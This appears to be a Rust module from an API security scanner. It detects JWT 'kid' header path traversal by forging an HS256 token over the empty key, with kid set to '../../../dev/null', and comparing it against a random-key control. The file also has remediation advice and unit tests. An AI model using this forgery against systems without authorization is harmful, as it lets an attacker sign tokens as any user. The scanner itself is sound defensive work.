//! `auth.jwt-kid-injection`: the token's `kid` header picks the verification key by file path,
//! so a `kid` that climbs to an empty file makes the empty string the HMAC key
//! (CWE-22, CWE-347).
//!
//! Only for tokens that carry a `kid`. Sends the identity's claims (fresh `iat`/`exp`) under
//! `alg: HS256` with `kid` set to a path that climbs to `/dev/null` and an HMAC over the empty
//! key, alone, to an operation that refuses anonymous callers (`crate::jwt::try_forged`).
//! Proof: that token gets the genuine token's answer while the same header and claims signed
//! with a random key are refused there. Nothing is written or read on the server but the
//! file every Unix system has and that is always empty. Budget: two requests per candidate
//! operation, and one control.

use crate::check::{Check, CheckMeta, Outcome, PlanCtx, Planned, RunCtx, Scope};
use crate::jwt::{encode, jwt_identity, now, send_token, try_forged};
use async_trait::async_trait;
use middlebrick_model::{
    CheckId, CheckKind, Confidence, Evidence, Operation, Owasp, Remediation, Severity, Tech,
};
use serde_json::{json, Map, Value};
use sha2::{Digest, Sha256};

#[derive(Debug)]
pub struct JwtKidInjection;

/// Deep enough to reach the root from any key directory.
const EMPTY_FILE_KID: &str = "../../../../../../../../../../../../dev/null";

static META: CheckMeta = CheckMeta {
    id: CheckId::AuthJwtKidInjection,
    title: "JWT kid header used as a key file path",
    description: "For tokens that carry a kid, signs a signed-in identity's claims with HS256 over \
        an empty key and a kid that climbs to /dev/null; fires when that token gets the genuine \
        token's answer while the same token under a random key is refused.",
    cwe: &[22, 347],
    owasp: &[Owasp::Api2],
    severity: Severity::Critical,
    kind: CheckKind::SafeActive,
    remediation: Remediation {
        generic: "Treat `kid` as an opaque name: look it up in a fixed table of the keys the API \
            issues and refuse any other value; never join it to a path or put it in a query. \
            Refuse empty keys in the verifier.",
        variants: &[
            (Tech::Flask, "keep the keys in a dict loaded at start (`KEYS[kid]`) and answer 401 \
                on a missing kid; verify with `jwt.decode(token, KEYS[kid], algorithms=[\"HS256\"])`, \
                which refuses an empty key."),
            (Tech::FastApi, "resolve the kid against a dict of loaded keys in the token \
                dependency and verify with PyJWT, never with a hand-written HMAC."),
        ],
    },
};

fn hs256_with_kid(claims: &Map<String, Value>, header: &Map<String, Value>, key: &[u8]) -> String {
    let mut h = header.clone();
    h.insert("alg".into(), json!("HS256"));
    h.insert("kid".into(), json!(EMPTY_FILE_KID));
    encode(&h, claims, Some(key))
}

#[async_trait]
impl Check for JwtKidInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn scope(&self) -> Scope {
        Scope::Api
    }

    fn plan(&self, _op: &Operation, _ctx: PlanCtx) -> Vec<Planned> {
        Vec::new()
    }

    async fn run(&self, ctx: &RunCtx<'_>) -> Outcome {
        let Some((identity, token, jwt)) = jwt_identity(ctx.probe) else {
            return Outcome::none();
        };
        if !jwt.header.get("kid").is_some_and(Value::is_string) {
            return Outcome::none();
        }
        let mut claims = jwt.claims.clone();
        let t = now();
        claims.insert("iat".into(), json!(t));
        if claims.contains_key("exp") {
            claims.insert("exp".into(), json!(t + 600));
        }
        let forged = hs256_with_kid(&claims, &jwt.header, b"");
        let Ok(Some(a)) = try_forged(ctx.probe, ctx.inventory, &identity, &forged).await else {
            return Outcome::none();
        };
        let random = Sha256::digest(format!("{token}{t}control").as_bytes());
        let control_token = hs256_with_kid(&claims, &jwt.header, &random);
        let Ok(control) = send_token(ctx.probe, a.op, &identity, &control_token).await else {
            return Outcome::none();
        };
        if control.response.as_ref().is_none_or(|r| r.is_success()) {
            // Any signature passes: auth.jwt-signature's finding, not this one.
            return Outcome::none();
        }
        let description = format!(
            "`{}` accepted a token whose `kid` header is `{EMPTY_FILE_KID}` and whose HS256 \
             signature uses the empty key: it got the same answer as the genuine token, while \
             the same token signed with a random key was refused (HTTP {}) and anonymous callers \
             get HTTP {}. The verifier reads the key from the file the `kid` names, so anyone can \
             sign tokens for any user with a key they choose the file of.",
            a.op.key(),
            control.status().unwrap_or(0),
            a.anonymous.status().unwrap_or(0)
        );
        let evidence = Evidence::new(vec![a.forged, a.genuine, control, a.anonymous]).note(
            "first: kid climbing to /dev/null, HS256 over the empty key; second: the genuine \
             token; third: the same header under a random key; fourth: no credentials",
        );
        Outcome::finding(META.finding(
            Some(a.op),
            "",
            Severity::Critical,
            Confidence::Confirmed,
            description,
            evidence,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jwt::testing::{api_with, run_api_check, token_with};
    use crate::jwt::Jwt;

    fn kid_token() -> String {
        let h = json!({"alg": "HS256", "typ": "JWT", "kid": "kiosk-1"});
        let c = json!({"sub": "1", "iat": 100, "exp": 3700});
        encode(
            h.as_object().unwrap(),
            c.as_object().unwrap(),
            Some(b"real-key"),
        )
    }

    /// A verifier that reads the key from `keys/<kid>`: only `kiosk-1` exists, and a path to
    /// /dev/null gives the empty key.
    fn file_keys(j: &Jwt) -> bool {
        match j.header.get("kid").and_then(Value::as_str) {
            Some("kiosk-1") => j.signed_with(b"real-key"),
            Some(k) if k.ends_with("/dev/null") => j.signed_with(b""),
            _ => false,
        }
    }

    #[tokio::test]
    async fn a_kid_that_reaches_an_empty_file_is_confirmed() {
        let out = run_api_check(&JwtKidInjection, &api_with(kid_token(), file_keys)).await;
        assert_eq!(out.findings.len(), 1);
        assert_eq!(out.findings[0].evidence.exchanges.len(), 4);
        assert_eq!(out.findings[0].evidence.exchanges[2].status(), Some(401));
    }

    #[tokio::test]
    async fn a_kid_looked_up_in_a_table_is_silent() {
        let table = |j: &Jwt| {
            j.header.get("kid").and_then(Value::as_str) == Some("kiosk-1")
                && j.signed_with(b"real-key")
        };
        let out = run_api_check(&JwtKidInjection, &api_with(kid_token(), table)).await;
        assert!(out.findings.is_empty());
    }

    #[tokio::test]
    async fn unverified_signatures_are_left_to_the_signature_check() {
        let out = run_api_check(&JwtKidInjection, &api_with(kid_token(), |_| true)).await;
        assert!(out.findings.is_empty());
    }

    #[tokio::test]
    async fn a_token_without_kid_sends_nothing() {
        let t = token_with(json!({"sub":"1","exp":3700}), b"k");
        let p = api_with(t, |_| true);
        assert!(run_api_check(&JwtKidInjection, &p)
            .await
            .findings
            .is_empty());
        assert_eq!(p.sent_count(), 0);
    }
}
